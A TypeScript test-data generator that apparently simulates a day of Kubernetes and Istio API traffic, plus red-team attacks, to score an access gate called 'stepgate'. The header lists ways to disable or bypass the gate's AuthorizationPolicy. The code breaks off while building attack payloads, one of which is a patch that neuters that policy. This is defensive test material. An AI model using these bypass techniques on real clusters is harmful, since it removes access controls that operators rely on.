import { LINUX, MAC, PLATFORM_HINT, WS_UPGRADE, prng, withAttacks, type DayEvent, type Login, type StaffMember, attackAdder, type AttackRequest } from './workday.js';

/**
 * An eighth replayed day, written as an outside red team would after reading docs/risk.md and
 * istio/: a company that runs Istio in front of everything (the Kubernetes API included, through
 * the ingress gateway and its CUSTOM AuthorizationPolicy `istio-system/stepgate-kube-api`) and
 * deploys by GitOps. The warm-up day is a Monday, the scored day the Tuesday after (CEST both).
 *
 * Routine, written as it happens: app teams own their mesh configuration and apply it themselves
 * with `kubectl apply -f istio/` in their `-dev`, `-staging` and `-prod` namespaces
 * (VirtualServices, DestinationRules, AuthorizationPolicies ALLOW and DENY, PeerAuthentications,
 * Gateway API HTTPRoutes attached to the shared public gateway in `istio-ingress`); `istioctl
 * proxy-config` and `istioctl x authz check` against their own pods (istioctl GETs the pod, then
 * port-forwards to the sidecar's Envoy admin port 15000 over SPDY (a POST) and reads
 * `config_dump`); `istioctl analyze` (which lists every Secret of the cluster, less Helm's and
 * service-account tokens, through its informers); Argo CD's UI (REST and its event stream) and CLI
 * (gRPC-web); `kubectl rollout restart` and `rollout undo` in production, HPA edits, `kubectl top`,
 * `kubectl debug` with an ephemeral container; a release engineer applying Kustomize overlays with
 * `kubectl apply -k --server-side --force-conflicts`; the platform team reading istio-system,
 * running `istioctl proxy-status` (the mesh ConfigMap, istiod's pod, a port-forward to its XDS port
 * 15012, and a TokenRequest for `default/default` with audience `istio-ca`, which istioctl mints
 * to authenticate to istiod), `proxy-config` on the ingress gateway, and a rare hand edit of the
 * gateway's HPA; CI deploying to staging through the gateway with a Kubernetes service-account
 * token (automation); an on-call incident at 02:30 local from home (a rollback in production, with
 * Argo CD's auto-sync paused first). Argo CD itself syncs from inside the cluster (the API server's
 * in-cluster address), so its controller never passes the gateway.
 *
 * The attacks are what an outside red team tries against a mesh-fronted cluster: switching the
 * gate off (deleting or patching the CUSTOM AuthorizationPolicy, an EnvoyFilter that removes
 * ext_authz from the gateway, a WasmPlugin in front of it, the mesh ConfigMap patched to
 * failOpen, stepgate's own ConfigMap, Deployment and Secrets, a shell in its Redis); routing
 * around it (a VirtualService or an HTTPRoute in an app namespace bound to the kube gateway,
 * sending `/.stepgate/…`, which the CUSTOM policy exempts, to the API server); each from malware on
 * an app engineer's and on a platform engineer's laptop, and with a fresh token phished from
 * them; the CI service account's token leaked and used for the same; Argo CD told to deploy an
 * attacker's repository; the Envoy admin port of the ingress gateway reached by port-forward.
 */

export const D8_DAY0 = Date.UTC(2027, 3, 12, 0, 0, 0); // Monday 12 April 2027 (CEST): warm-up, not scored
export const D8_DAY1 = Date.UTC(2027, 3, 13, 0, 0, 0); // Tuesday: the scored day
const H = 3_600_000;
const M = 60_000;
const S = 1000;
/** Amsterdam is UTC+2 on both days. */
const OFF = 2;

const KUBECTL = (v: string, os: string) => `kubectl/${v} (${os}) kubernetes/${v === 'v1.32.4' ? '59526cd' : '0f4d58f'}`;
/** istioctl's client-go default agent: its build stamps Istio's version, not client-go's. */
const ISTIOCTL = (os: string) => `istioctl/v0.0.0 (${os}) kubernetes/$Format`;
const ARGOCD_CLI = (os: string) => `argocd-client/v2.14.9+38985bd ${os}`;
const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/135.0.0.0 Safari/537.36`;
const FIREFOX = (os: string) => `Mozilla/5.0 (${os}; rv:137.0) Gecko/20100101 Firefox/137.0`;

const SERVICES = ['orders', 'inventory', 'pricing', 'storefront'] as const;
const ENVS = ['dev', 'staging', 'prod'] as const;

type Where = 'office' | 'home';

interface Person extends StaffMember<Where> {
  browserShare: number;
  kind: 'app' | 'platform' | 'release' | 'oncall' | 'argocd';
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (p: Partial<Person> & { name: string; kind: Person['kind'] }) => {
    const idx = out.length;
    const mac = idx % 3 !== 1;
    const start = 8.4 + rand() * 1.2;
    const len = 7.6 + rand() * 0.7;
    const where: Where = idx % 3 === 2 ? 'home' : 'office';
    out.push({
      idx,
      svc: SERVICES[idx % 4]!,
      warm: [[start, start + len, where]],
      scored: [[start + rand() * 0.3, start + len, where]],
      os: mac ? MAC : LINUX,
      kubectlOs: mac ? 'darwin/arm64' : 'linux/amd64',
      kubectlVersion: idx % 2 ? 'v1.32.4' : 'v1.33.0',
      browserShare: 0.12,
      ...p,
      name: `d8-${p.name}@example.dev`,
    });
  };
  // Two engineers per service: they own their namespaces' mesh configuration.
  for (let k = 0; k < 8; k++) add({ name: `app-${k}`, kind: 'app' });
  // The platform team: istio-system, the ingress gateway, istiod; both in the office.
  for (let k = 0; k < 2; k++) add({ name: `platform-${k}`, kind: 'platform', warm: [[8.5, 17, 'office']], scored: [[8.6, 17, 'office']] });
  // Ships the Kustomize overlays to production, from home.
  add({ name: 'release', kind: 'release', warm: [[9, 17, 'home']], scored: [[9, 17, 'home']] });
  // Lives in Argo CD's UI and CLI.
  add({ name: 'gitops', kind: 'argocd', browserShare: 0.5, warm: [[8.8, 17, 'office']], scored: [[8.8, 17, 'office']] });
  // On call tonight: paged at 02:30 local, works the incident from home, then a short day.
  add({ name: 'oncall', kind: 'oncall', warm: [[9, 17.5, 'office']], scored: [[2.5, 3.4, 'home'], [11, 17, 'home']] });
  return out;
}

function addressOf(p: Person, where: Where, n: number): string {
  const i = p.idx;
  if (where === 'office') return `10.31.${(i * 3) % 8}.${40 + i}`; // trusted (10/8), its Wi-Fi and desks
  // Homes: each one's own line, an address that changes now and then inside the ISP's /24.
  return `89.${140 + i}.${(i * 11) % 200}.${20 + ((n >> 5) % 3)}`;
}

type Req = { method: string; path: string; host?: string; headers?: Record<string, string>; body?: string; ua?: string };

const MERGE = { 'content-type': 'application/merge-patch+json' };
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const SSA = { 'content-type': 'application/apply-patch+yaml' };
const JSON_CT = { 'content-type': 'application/json' };
/** istioctl's port-forward: client-go's SPDY dialer (a POST with an upgrade). */
const SPDY = { connection: 'Upgrade', upgrade: 'SPDY/3.1', 'x-stream-protocol-version': 'portforward.k8s.io' };
const GRPC_WEB = { 'content-type': 'application/grpc-web+proto', 'x-grpc-web': '1' };

/**
 * The API's host as the replayed configuration (examples/stepgate.yaml, `kubernetes.hosts`) names
 * it; a deployment's is its own (istio/'s kube.example.com with deploy/base).
 */
const API_HOST = 'kube.localhost';
const ISTIO = '/apis/networking.istio.io/v1';
const SECURITY = '/apis/security.istio.io/v1';
const GATEWAY_API = '/apis/gateway.networking.k8s.io/v1';

function pod(svc: string, rand: () => number): string {
  return `${svc}-api-6d8f7b-${['k2x9q', 'p7m4z', 'w3c8n'][Math.floor(rand() * 3)]}`;
}

/** The mesh objects an app team keeps in its repository, as `kubectl apply -f istio/` sends them (client-side apply). */
function meshObjects(svc: string, ns: string, rand: () => number): [string, string, unknown][] {
  const host = `${svc}.${ns}.svc.cluster.local`;
  const weight = 10 * Math.floor(rand() * 10);
  return [
    [ISTIO, `virtualservices/${svc}`, { spec: { hosts: [host], http: [{ route: [{ destination: { host, subset: 'v1' }, weight: 100 - weight }, { destination: { host, subset: 'v2' }, weight }], timeout: '3s', retries: { attempts: 2, perTryTimeout: '1s' } }] } }],
    [ISTIO, `destinationrules/${svc}`, { spec: { host, trafficPolicy: { connectionPool: { http: { http2MaxRequests: 200 + weight } }, outlierDetection: { consecutive5xxErrors: 5 } }, subsets: [{ name: 'v1', labels: { version: 'v1' } }, { name: 'v2', labels: { version: 'v2' } }] } }],
    [SECURITY, `authorizationpolicies/${svc}-allow`, { spec: { selector: { matchLabels: { app: `${svc}-api` } }, action: 'ALLOW', rules: [{ from: [{ source: { principals: [`cluster.local/ns/${ns.replace(svc, 'storefront')}/sa/storefront`, `cluster.local/ns/istio-ingress/sa/public-gw`] } }], to: [{ operation: { methods: ['GET', 'POST'], paths: ['/v1/*'] } }] }] } }],
    [SECURITY, `authorizationpolicies/${svc}-deny-admin`, { spec: { selector: { matchLabels: { app: `${svc}-api` } }, action: 'DENY', rules: [{ to: [{ operation: { paths: ['/admin/*', '/debug/*'] } }] }] } }],
    [SECURITY, `peerauthentications/${svc}`, { spec: { selector: { matchLabels: { app: `${svc}-api` } }, mtls: { mode: 'STRICT' }, portLevelMtls: { '9090': { mode: 'PERMISSIVE' } } } }],
  ];
}

/** `kubectl apply -f istio/`: each object GET, then its merge patch (custom resources take no strategic merge). */
function applyMesh(svc: string, ns: string, rand: () => number, some = false): Req[] {
  const objs = meshObjects(svc, ns, rand).filter((_, k) => !some || k === 0 || k === Math.floor(rand() * 5));
  const out: Req[] = [];
  for (const [base, name, patch] of objs) {
    out.push({ method: 'GET', path: `${base}/namespaces/${ns}/${name}` });
    out.push({ method: 'PATCH', path: `${base}/namespaces/${ns}/${name}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: MERGE, body: JSON.stringify(patch) });
  }
  return out;
}

/** An HTTPRoute on the shared public gateway (`istio-ingress/public-gw`, which admits routes from every namespace). */
function applyRoute(svc: string, ns: string): Req[] {
  const route = {
    apiVersion: 'gateway.networking.k8s.io/v1',
    kind: 'HTTPRoute',
    metadata: { name: svc, namespace: ns },
    spec: {
      parentRefs: [{ name: 'public-gw', namespace: 'istio-ingress', sectionName: 'https' }],
      hostnames: [ns.endsWith('-prod') ? `${svc}.shop.example.dev` : `${svc}.${ns.split('-').pop()}.shop.example.dev`],
      rules: [{ matches: [{ path: { type: 'PathPrefix', value: '/api/' } }], backendRefs: [{ name: `${svc}-api`, port: 8080 }] }],
    },
  };
  return [
    { method: 'GET', path: `${GATEWAY_API}/namespaces/${ns}/httproutes/${svc}` },
    { method: 'PATCH', path: `${GATEWAY_API}/namespaces/${ns}/httproutes/${svc}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: MERGE, body: JSON.stringify({ spec: route.spec }) },
  ];
}

/** `istioctl proxy-config cluster|routes deploy/<svc>-api -n <ns>` and `istioctl x authz check`: the pod, then Envoy's admin port. */
function istioctlProxyConfig(svc: string, ns: string, po: string, os: string): Req[] {
  return [
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${svc}-api` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3D${svc}-api` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` },
    { method: 'POST', path: `/api/v1/namespaces/${ns}/pods/${po}/portforward`, headers: SPDY },
  ].map((q) => ({ ...q, ua: ISTIOCTL(os) }));
}

/** `istioctl analyze -n <ns>`: its informers list (and watch) what it analyses, Secrets cluster-wide among them. */
function istioctlAnalyze(ns: string, os: string): Req[] {
  const secrets = '/api/v1/secrets?fieldSelector=type%21%3Dhelm.sh%2Frelease.v1%2Ctype%21%3Dkubernetes.io%2Fservice-account-token';
  return [
    { method: 'GET', path: '/api/v1/namespaces/istio-system/configmaps/istio' },
    { method: 'GET', path: '/api/v1/namespaces?limit=500&resourceVersion=0' },
    { method: 'GET', path: '/api/v1/pods?limit=500&resourceVersion=0' },
    { method: 'GET', path: '/api/v1/services?limit=500&resourceVersion=0' },
    { method: 'GET', path: `${secrets}&limit=500&resourceVersion=0` },
    { method: 'GET', path: `${ISTIO}/virtualservices?limit=500&resourceVersion=0` },
    { method: 'GET', path: `${ISTIO}/destinationrules?limit=500&resourceVersion=0` },
    { method: 'GET', path: `${SECURITY}/authorizationpolicies?limit=500&resourceVersion=0` },
    { method: 'GET', path: `${GATEWAY_API}/httproutes?limit=500&resourceVersion=0` },
    { method: 'GET', path: `${secrets}&allowWatchBookmarks=true&resourceVersion=48213377&timeoutSeconds=412&watch=true` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods` },
  ].map((q) => ({ ...q, ua: ISTIOCTL(os) }));
}

/** `istioctl proxy-status`: the mesh config, istiod's pod, a port-forward to its XDS port and a token for istiod. */
function istioctlProxyStatus(os: string): Req[] {
  const istiod = 'istiod-7f6d9c8b4-hx2qv';
  return [
    { method: 'GET', path: '/api/v1/namespaces/istio-system/configmaps/istio' },
    { method: 'GET', path: '/api/v1/namespaces/istio-system/pods?fieldSelector=status.phase%3DRunning&labelSelector=app%3Distiod' },
    { method: 'GET', path: `/api/v1/namespaces/istio-system/pods/${istiod}` },
    { method: 'POST', path: `/api/v1/namespaces/istio-system/pods/${istiod}/portforward`, headers: SPDY },
    {
      method: 'POST',
      path: '/api/v1/namespaces/default/serviceaccounts/default/token',
      headers: JSON_CT,
      body: JSON.stringify({ kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { audiences: ['istio-ca'], expirationSeconds: 3600, boundObjectRef: null }, status: { token: '', expirationTimestamp: null } }),
    },
  ].map((q) => ({ ...q, ua: ISTIOCTL(os) }));
}

/** `kubectl apply -k overlays/prod --server-side --force-conflicts`: one apply patch per object. */
function kustomizeApply(svc: string, ns: string): Req[] {
  const objs: [string, string][] = [
    ['/api/v1', `configmaps/${svc}-config`],
    ['/api/v1', `services/${svc}-api`],
    ['/apis/apps/v1', `deployments/${svc}-api`],
    ['/apis/apps/v1', `deployments/${svc}-worker`],
    ['/apis/autoscaling/v2', `horizontalpodautoscalers/${svc}-api`],
    [ISTIO, `virtualservices/${svc}`],
    [ISTIO, `destinationrules/${svc}`],
    [SECURITY, `authorizationpolicies/${svc}-allow`],
  ];
  return objs.map(([base, name]) => ({ method: 'PATCH', path: `${base}/namespaces/${ns}/${name}?fieldManager=kubectl&fieldValidation=Strict&force=true`, headers: SSA }));
}

/** `kubectl debug -it <pod> --image=busybox --target=api`: the pod, its ephemeral container, then attach. */
function kubectlDebug(ns: string, po: string): Req[] {
  const eph = { spec: { ephemeralContainers: [{ name: 'debugger-7xk2p', image: 'busybox:1.37', stdin: true, tty: true, targetContainerName: 'api' }] } };
  return [
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` },
    { method: 'PATCH', path: `/api/v1/namespaces/${ns}/pods/${po}/ephemeralcontainers`, headers: SMP, body: JSON.stringify(eph) },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/attach?container=debugger-7xk2p&stdin=true&stdout=true&tty=true`, headers: WS_UPGRADE },
  ];
}

/** `kubectl rollout undo deploy/<svc>-api`: the Deployment, its ReplicaSets, the patch back to the previous template. */
function rolloutUndo(svc: string, ns: string): Req[] {
  return [
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${svc}-api` },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/replicasets?labelSelector=app%3D${svc}-api` },
    { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${svc}-api?fieldManager=kubectl-rollout`, headers: { 'content-type': 'application/json-patch+json' }, body: JSON.stringify([{ op: 'replace', path: '/spec/template', value: { metadata: { labels: { app: `${svc}-api`, version: 'v1' } }, spec: { containers: [{ name: 'api', image: `registry.example.dev/${svc}/api:2027.04.09-2` }] } } }]) },
  ];
}

const restart = (svc: string, ns: string, at: number): Req => ({
  method: 'PATCH',
  path: `/apis/apps/v1/namespaces/${ns}/deployments/${svc}-api?fieldManager=kubectl-rollout`,
  headers: SMP,
  body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': new Date(at).toISOString() } } } } }),
});

/** `kubectl edit hpa`: GET, then a patch of its bounds. */
function hpaEdit(svc: string, ns: string, rand: () => number): Req[] {
  return [
    { method: 'GET', path: `/apis/autoscaling/v2/namespaces/${ns}/horizontalpodautoscalers/${svc}-api` },
    { method: 'PATCH', path: `/apis/autoscaling/v2/namespaces/${ns}/horizontalpodautoscalers/${svc}-api?fieldManager=kubectl-edit&fieldValidation=Strict`, headers: MERGE, body: JSON.stringify({ spec: { minReplicas: 2 + Math.floor(rand() * 3), maxReplicas: 12 } }) },
  ];
}

function appTask(rand: () => number, p: Person, t: number): Req[] {
  const svc = p.svc;
  const r0 = rand();
  const env = r0 < 0.45 ? 'dev' : r0 < 0.8 ? 'staging' : 'prod';
  const ns = `${svc}-${env}`;
  const po = pod(svc, rand);
  const k = rand();
  if (k < 0.2) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=api&tailLines=100` }];
  if (k < 0.27) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=istio-proxy&tailLines=200` }];
  if (k < 0.35) return [{ method: 'GET', path: `${ISTIO}/namespaces/${ns}/virtualservices` }, { method: 'GET', path: `${SECURITY}/namespaces/${ns}/authorizationpolicies` }];
  if (k < 0.45) return applyMesh(svc, ns, rand, true);
  if (k < 0.49) return applyRoute(svc, ns);
  if (k < 0.55) return istioctlProxyConfig(svc, ns, po, p.kubectlOs);
  if (k < 0.57) return istioctlAnalyze(ns, p.kubectlOs);
  if (k < 0.63) return [{ method: 'GET', path: `/apis/metrics.k8s.io/v1beta1/namespaces/${ns}/pods` }];
  if (k < 0.67) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${svc}-db` }];
  if (k < 0.7) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/exec?command=sh&stdin=true&stdout=true&tty=true&container=api`, headers: WS_UPGRADE }];
  if (k < 0.72) return kubectlDebug(ns, po);
  if (k < 0.76) return [restart(svc, ns, t)];
  if (k < 0.79) return hpaEdit(svc, ns, rand);
  if (k < 0.81) return [{ method: 'DELETE', path: `/api/v1/namespaces/${ns}/pods/${po}` }];
  if (k < 0.88) return [{ method: 'GET', path: '/api' }, { method: 'GET', path: '/apis' }, { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
}

function platformTask(rand: () => number, p: Person): Req[] {
  const k = rand();
  const gw = `istio-ingressgateway-5c7d8f9b6-${['m2v7t', 'r9q4k'][Math.floor(rand() * 2)]}`;
  if (k < 0.25) return [{ method: 'GET', path: '/api/v1/namespaces/istio-system/pods' }, { method: 'GET', path: `/api/v1/namespaces/istio-system/pods/${gw}/log?container=istio-proxy&tailLines=200` }];
  if (k < 0.35) return [{ method: 'GET', path: `${ISTIO}/namespaces/istio-system/gateways` }, { method: 'GET', path: `${SECURITY}/namespaces/istio-system/authorizationpolicies` }];
  if (k < 0.45) return istioctlProxyConfig('istio-ingressgateway', 'istio-system', gw, p.kubectlOs).map((q) => ({ ...q, path: q.path.replace('istio-ingressgateway-api', 'istio-ingressgateway').replace('app%3Distio-ingressgateway', 'istio%3Dingressgateway') }));
  if (k < 0.52) return [{ method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/namespaces/istio-system/pods' }, { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }];
  if (k < 0.6) return [{ method: 'GET', path: '/api/v1/namespaces/istio-system/configmaps/istio' }];
  if (k < 0.7) {
    const svc = SERVICES[Math.floor(rand() * 4)]!;
    return [{ method: 'GET', path: `${ISTIO}/namespaces/${svc}-prod/virtualservices` }, { method: 'GET', path: `/api/v1/namespaces/${svc}-prod/pods` }];
  }
  if (k < 0.78) return [{ method: 'GET', path: '/api/v1/nodes' }, { method: 'GET', path: '/apis/apps/v1/namespaces/istio-system/deployments' }];
  if (k < 0.85) return [{ method: 'GET', path: `${GATEWAY_API}/namespaces/istio-ingress/gateways/public-gw` }, { method: 'GET', path: `${GATEWAY_API}/httproutes` }];
  return [{ method: 'GET', path: '/api/v1/namespaces/istio-system/events?limit=500' }];
}

/** Argo CD's UI: the applications list and its event stream, an app's tree, now and then the sync button. */
function argoUi(rand: () => number, svc: string): Req[] {
  const env = rand() < 0.6 ? 'staging' : 'prod';
  const app = `${svc}-${env}`;
  const out: Req[] = [
    { method: 'GET', path: '/api/v1/applications?fields=metadata.name%2Cmetadata.namespace%2Cspec%2Cstatus.sync.status%2Cstatus.health' },
    { method: 'GET', path: '/api/v1/stream/applications?fields=result.type%2Cresult.application.metadata.name' },
    { method: 'GET', path: `/api/v1/applications/${app}?appNamespace=argocd` },
    { method: 'GET', path: `/api/v1/applications/${app}/resource-tree?appNamespace=argocd` },
  ];
  if (rand() < 0.25) out.push({ method: 'POST', path: `/api/v1/applications/${app}/sync`, headers: JSON_CT, body: JSON.stringify({ appNamespace: 'argocd', revision: 'HEAD', prune: false, dryRun: false, strategy: { hook: {} } }) });
  if (rand() < 0.3) out.push({ method: 'GET', path: `/api/v1/applications/${app}/managed-resources?appNamespace=argocd` });
  return out.map((q) => ({ ...q, host: 'argocd.localhost' }));
}

/** `argocd app get|diff|sync <app> --grpc-web`. */
function argoCli(rand: () => number, svc: string, os: string): Req[] {
  const app = `${svc}-${rand() < 0.6 ? 'staging' : 'prod'}`;
  const calls = ['/application.ApplicationService/Get', '/application.ApplicationService/ManagedResources', '/application.ApplicationService/ResourceTree'];
  if (rand() < 0.4) calls.push('/application.ApplicationService/Sync', '/application.ApplicationService/Watch');
  // One message naming the application (field 1), framed: flag 0, its 4-byte length.
  const body = `\u0000\u0000\u0000\u0000${String.fromCharCode(app.length + 2)}\n${String.fromCharCode(app.length)}${app}`;
  return calls.map((path) => ({ method: 'POST', path, host: 'argocd.localhost', headers: GRPC_WEB, body, ua: ARGOCD_CLI(os) }));
}

export function workday8(seed = 61): DayEvent[] {
  const rand = prng(seed * 2_246_822_519 + 8);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const day of [D8_DAY0, D8_DAY1]) {
    const scored = day === D8_DAY1;
    for (const p of people) {
      const blocks = scored ? p.scored : p.warm;
      const at = (local: number) => day + (local - OFF) * H;
      const mine: DayEvent[] = [];
      let n = 0;
      const placeAt = (t: number): Where => {
        const h = (t - day) / H + OFF;
        for (const [from, to, where] of blocks) if (h >= from && h < to) return where;
        return blocks[blocks.length - 1]![2];
      };
      // One sign-in per sitting (two factors), 40 s before its first request: the night's page
      // wakes the on-call, who signs in then and again when starting the day's work.
      const logins = blocks.map(([from], b): Login => ({ sub: p.name, sid: `${p.name}:${day}:${b}`, authTime: Math.floor((at(from) - 40 * S) / 1000), acr: 'urn:stepgate:aal2' }));
      const loginAt = (t: number): Login => {
        let l = logins[0]!;
        blocks.forEach(([from], b) => {
          if (t >= at(from) - M) l = logins[b]!;
        });
        return l;
      };
      const push = (t: number, q: Req, browser: boolean) => {
        const where = placeAt(t);
        const ip = addressOf(p, where, n++);
        const ua = q.ua ?? (browser ? (p.idx % 4 === 1 ? FIREFOX(p.os) : CHROME(p.os)) : KUBECTL(p.kubectlVersion, p.kubectlOs));
        const headers = browser && ua.includes('Chrome') ? { 'sec-ch-ua-platform': PLATFORM_HINT[p.os]!, ...q.headers } : q.headers;
        mine.push({
          at: Math.round(t),
          actor: p.name,
          scored,
          ip,
          ua,
          login: loginAt(t),
          method: q.method,
          path: q.path,
          ...(headers ? { headers } : {}),
          ...(q.host ? { host: q.host } : {}),
          ...(q.body !== undefined ? { body: q.body } : {}),
        });
      };
      for (const [from, to] of blocks) {
        let t = at(from);
        const end = at(to);
        const night = from < 5;
        while (t < end && !night) {
          const local = (t - day) / H + OFF;
          if (local >= 12.4 && local < 13.1) {
            t = at(13.1);
            continue;
          }
          const browser = rand() < p.browserShare;
          let reqs: Req[];
          if (browser) reqs = p.kind === 'argocd' || rand() < 0.7 ? argoUi(rand, p.svc) : [{ method: 'GET', host: 'grafana.localhost', path: `/d/istio-mesh/istio-mesh-dashboard?var-namespace=${p.svc}-prod` }];
          else if (p.kind === 'platform') reqs = platformTask(rand, p);
          else if (p.kind === 'argocd' && rand() < 0.5) reqs = argoCli(rand, SERVICES[Math.floor(rand() * 4)]!, p.kubectlOs);
          else reqs = appTask(rand, p, t);
          const gap = 400 + rand() * 1600;
          reqs.forEach((q, k) => push(t + k * gap, q, browser));
          t += 4 * M + rand() * 10 * M;
        }
      }
      // Replace the routine in [from, from + clearMin) with a run of requests.
      const run = (from: number, reqs: Req[], gapMs: number, clearMin: number) => {
        for (let k = mine.length - 1; k >= 0; k--) if (mine[k]!.at >= from - 2 * M && mine[k]!.at <= from + clearMin * M) mine.splice(k, 1);
        reqs.forEach((q, k) => push(from + k * gapMs, q, false));
      };
      if (p.kind === 'platform') {
        // `istioctl proxy-status` at the start of the day and after lunch; `istioctl analyze -A`.
        run(at(blocks[0]![0] + 0.1), istioctlProxyStatus(p.kubectlOs), 300, 2);
        run(at(14 + p.idx * 0.01), istioctlProxyStatus(p.kubectlOs), 300, 2);
        run(at(10.5), istioctlAnalyze('istio-system', p.kubectlOs), 150, 2);
        if (scored && p.name.startsWith('d8-platform-1')) {
          // The rare hand edit: the ingress gateway's HPA raised for the afternoon's sale.
          run(at(15.2), [{ method: 'GET', path: '/apis/autoscaling/v2/namespaces/istio-system/horizontalpodautoscalers/istio-ingressgateway' }, { method: 'PATCH', path: '/apis/autoscaling/v2/namespaces/istio-system/horizontalpodautoscalers/istio-ingressgateway?fieldManager=kubectl-edit&fieldValidation=Strict', headers: MERGE, body: JSON.stringify({ spec: { minReplicas: 4, maxReplicas: 20 } }) }], 20 * S, 2);
        }
      }
      if (p.kind === 'release') {
        // The overlays to staging at 10:00, production at 11:00 and 15:00, each followed by a watch of the rollout.
        for (const [h, env] of [[10, 'staging'], [11, 'prod'], [15, 'prod']] as const) {
          const svc = SERVICES[Math.floor(h) % 4]!;
          run(at(h), [...kustomizeApply(svc, `${svc}-${env}`), { method: 'GET', path: `/apis/apps/v1/namespaces/${svc}-${env}/deployments/${svc}-api?watch=true&fieldSelector=metadata.name%3D${svc}-api` }], 60, 3);
        }
        // A restart of every service's API in production after the 15:00 config change.
        run(at(15.3), SERVICES.map((s) => restart(s, `${s}-prod`, at(15.3))), 900, 2);
      }
      if (p.kind === 'oncall' && scored) {
        // 02:30: the pager. Pods, top, the proxy's logs, the Argo CD app's auto-sync paused (so it
        // does not revert the rollback), the rollback, a debug container, a restart of the worker.
        const t0 = at(2.5);
        const svc = 'orders';
        const ns = 'orders-prod';
        const po = pod(svc, rand);
        const night: Req[] = [
          { method: 'GET', path: `/api/v1/namespaces/${ns}/pods` },
          { method: 'GET', path: `/apis/metrics.k8s.io/v1beta1/namespaces/${ns}/pods` },
          { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=istio-proxy&tailLines=500` },
          { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` },
          { method: 'POST', path: '/application.ApplicationService/Patch', host: 'argocd.localhost', headers: GRPC_WEB, body: '\u0000\u0000\u0000\u0000\u002a\n\u000corders-prod\u0012\u001a{"spec":{"syncPolicy":null}}', ua: ARGOCD_CLI('darwin/arm64') },
          ...rolloutUndo(svc, ns),
          { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${svc}-api?watch=true&fieldSelector=metadata.name%3D${svc}-api` },
          ...kubectlDebug(ns, po),
          ...hpaEdit(svc, ns, rand),
          { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${svc}-worker?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': new Date(t0).toISOString() } } } } }) },
          { method: 'GET', path: `/apis/metrics.k8s.io/v1beta1/namespaces/${ns}/pods` },
          { method: 'GET', path: `/api/v1/namespaces/${ns}/pods` },
        ];
        night.forEach((q, k) => push(t0 + k * 50 * S, q, false));
      }
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    // CI: a pipeline per merge, about every 25 minutes in working hours, deploying to staging through
    // the gateway with the `ci/deployer` service account's token (automation), from the runner pool
    // inside 10/8: `kubectl apply --server-side` of the service's overlay, then a rollout watch.
    for (let j = 0; j < 20; j++) {
      const t = day + (7 + j * 0.42) * H;
      const login: Login = { sub: 'system:serviceaccount:ci:deployer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
      const ip = `10.90.${(j * 13 + (scored ? 5 : 0)) % 32}.${(j * 29) % 250 + 3}`;
      const svc = SERVICES[j % 4]!;
      const ua = KUBECTL('v1.32.4', 'linux/amd64');
      const reqs = [...kustomizeApply(svc, `${svc}-staging`), { method: 'GET', path: `/apis/apps/v1/namespaces/${svc}-staging/deployments/${svc}-api?watch=true` }];
      reqs.forEach((q, k) => events.push({ at: Math.round(t + k * 300), actor: 'ci', scored, ip, ua, login, method: q.method, path: q.path, ...(q.headers ? { headers: q.headers } : {}) }));
    }
  }
  return withAttacks(events, attacks8(people, events));
}

function attacks8(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const by = (name: string) => people.find((p) => p.name === `d8-${name}@example.dev`)!;
  /** The victim's kubectl request (login, address, user agent) last before `t` on the scored day. */
  const last = (p: Person, t: number): DayEvent => {
    let e: DayEvent | undefined;
    for (const x of routine) if (x.actor === p.name && x.scored && x.host === undefined && x.ua.startsWith('kubectl') && (e === undefined || x.at <= t)) e = x;
    return e!;
  };
  type R = AttackRequest;
  const add = attackAdder(out);
  const L = (h: number) => D8_DAY1 + (h - OFF) * H;
  /** Malware on `p`'s laptop at local hour `h`: their address, kubectl and token then. */
  const onLaptop = (attack: string, p: Person, h: number, reqs: R[], gapMs: number) => {
    const v = last(p, L(h));
    add(attack, L(h), v.ip, v.ua, v.login, reqs, gapMs, p);
  };
  const AP = `${SECURITY}/namespaces/istio-system/authorizationpolicies/stepgate-kube-api`;
  const gateOff = JSON.stringify({ spec: { rules: [{ to: [{ operation: { hosts: [API_HOST], paths: ['/.stepgate/never'] } }] }] } });
  const envoyFilter = JSON.stringify({
